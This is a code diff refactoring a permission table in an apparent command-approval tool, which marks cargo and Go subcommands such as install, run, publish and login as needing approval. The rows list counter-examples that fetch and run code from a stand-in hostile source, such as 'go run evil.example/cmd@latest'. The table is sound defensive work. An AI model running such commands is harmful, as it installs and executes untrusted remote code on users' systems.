@@ -8,36 +8,18 @@ from __future__ import annotations
 from dataclasses import replace
 from typing import TYPE_CHECKING, Any
 
-from askfirst.model import Fact, Kind, Word
+from askfirst.model import Fact, Kind
 from askfirst.shell.tools.engine import apply, call_after, row, unknown
 from askfirst.shell.tools.options import parse
 from askfirst.shell.tools.project_code import arguments_file, place_facts, runner
 from askfirst.shell.tools.python.tools import edits
 from askfirst.shell.tools.scripts import is_risky_script
-from askfirst.shell.tools.table import ANY_OPTIONS, INERT, READS, Reading, Tool
+from askfirst.shell.tools.table import ANY_OPTIONS, INERT, READS, Reading, Tool, as_shown, asked
 
 if TYPE_CHECKING:
     from askfirst.shell.call import Analyst, Call, Outcome
 
 __all__ = ["TOOLS"]
-
-
-def _names(operands: tuple[Word, ...]) -> str:
-    return " ".join(w.value if w.value is not None else w.text for w in operands)
-
-
-def _asked(name: str, description: str, kind: Kind = Kind.INSTALL, **more: Any) -> Tool:
-    return Tool(
-        name,
-        kind,
-        description,
-        allowed=False,
-        operands=(INERT, ...),
-        reading=ANY_OPTIONS,
-        key_words=len(name.split()),
-        target=_names,
-        **more,
-    )
 
 
 # -- rust --------------------------------------------------------------------------------------------------------------
@@ -176,7 +158,7 @@ def _cargo_rows() -> dict[str, Tool]:
             operands=(INERT, ...),
             reading=ANY_OPTIONS,
             key_words=2,
-            target=_names,
+            target=as_shown,
         ),
         "fmt": Tool(
             "cargo fmt",
@@ -267,10 +249,10 @@ def _cargo_rows() -> dict[str, Tool]:
             operands=(INERT, ...),
             key_words=2,
         ),
-        "install": _asked("cargo install", "builds and installs a program", counter_examples=("cargo install evil",)),
-        "uninstall": _asked("cargo uninstall", "removes a program"),
-        "add": _asked("cargo add", "adds a dependency"),
-        "remove": _asked("cargo remove", "removes a dependency"),
+        "install": asked("cargo install", "builds and installs a program", counter_examples=("cargo install evil",)),
+        "uninstall": asked("cargo uninstall", "removes a program"),
+        "add": asked("cargo add", "adds a dependency"),
+        "remove": asked("cargo remove", "removes a dependency"),
         "update": _cargo(
             "update",
             "updates the lock file",
@@ -279,13 +261,13 @@ def _cargo_rows() -> dict[str, Tool]:
                 value   --precise
             """,
         ),
-        "publish": _asked(
+        "publish": asked(
             "cargo publish",
             "publishes the crate",
             Kind.NETWORK,
             danger="publishes to crates.io: it cannot be taken back",
         ),
-        "yank": _asked("cargo yank", "withdraws a version", Kind.NETWORK),
+        "yank": asked("cargo yank", "withdraws a version", Kind.NETWORK),
         "clean": _cargo(
             "clean",
             "deletes what was built",
@@ -315,12 +297,12 @@ def _cargo_rows() -> dict[str, Tool]:
                 asks    --output-dir --command --avoid-cfg-tarpaulin: writes elsewhere
             """,
         ),
-        "fix": _asked("cargo fix", "rewrites sources", Kind.EDIT),
-        "new": _asked("cargo new", "makes a crate", Kind.EDIT),
-        "init": _asked("cargo init", "makes a crate", Kind.EDIT),
-        "login": _asked("cargo login", "stores a token"),
-        "logout": _asked("cargo logout", "forgets a token"),
-        "owner": _asked("cargo owner", "changes who may publish", Kind.NETWORK),
+        "fix": asked("cargo fix", "rewrites sources", Kind.EDIT),
+        "new": asked("cargo new", "makes a crate", Kind.EDIT),
+        "init": asked("cargo init", "makes a crate", Kind.EDIT),
+        "login": asked("cargo login", "stores a token"),
+        "logout": asked("cargo logout", "forgets a token"),
+        "owner": asked("cargo owner", "changes who may publish", Kind.NETWORK),
     }
     for alias, name in (("b", "build"), ("c", "check"), ("t", "test"), ("d", "doc"), ("r", "run"), ("rm", "remove")):
         rows[alias] = rows[name]
@@ -514,14 +496,14 @@ _GO = Tool(
             examples=("go clean -testcache",),
             counter_examples=("go clean -i", "go clean -modcache"),
         ),
-        "run": _asked(
+        "run": asked(
             "go run", "builds and runs a program", Kind.CODE, counter_examples=("go run evil.example/cmd@latest",)
         ),
-        "generate": _asked("go generate", "runs commands from the sources", Kind.WRAPPER),
-        "install": _asked(
+        "generate": asked("go generate", "runs commands from the sources", Kind.WRAPPER),
+        "install": asked(
             "go install", "builds and installs a program", counter_examples=("go install evil.example/x@latest",)
         ),
-        "get": _asked("go get", "changes dependencies"),
+        "get": asked("go get", "changes dependencies"),
         "env": _go_look(
             "env",
             "shows settings",
@@ -584,8 +566,8 @@ _GO = Tool(
                 "why": _go("mod why", "says why a dependency is there", options="flag -m -vendor"),
                 "download": _go("mod download", "fetches what the lock file says"),
                 "vendor": _go("mod vendor", "copies dependencies into the project", options="flag -e"),
-                "edit": _asked("go mod edit", "changes dependencies", Kind.EDIT),
-                "init": _asked("go mod init", "makes a module", Kind.EDIT),
+                "edit": asked("go mod edit", "changes dependencies", Kind.EDIT),
+                "init": asked("go mod init", "makes a module", Kind.EDIT),
             },
         ),
         "work": Tool(
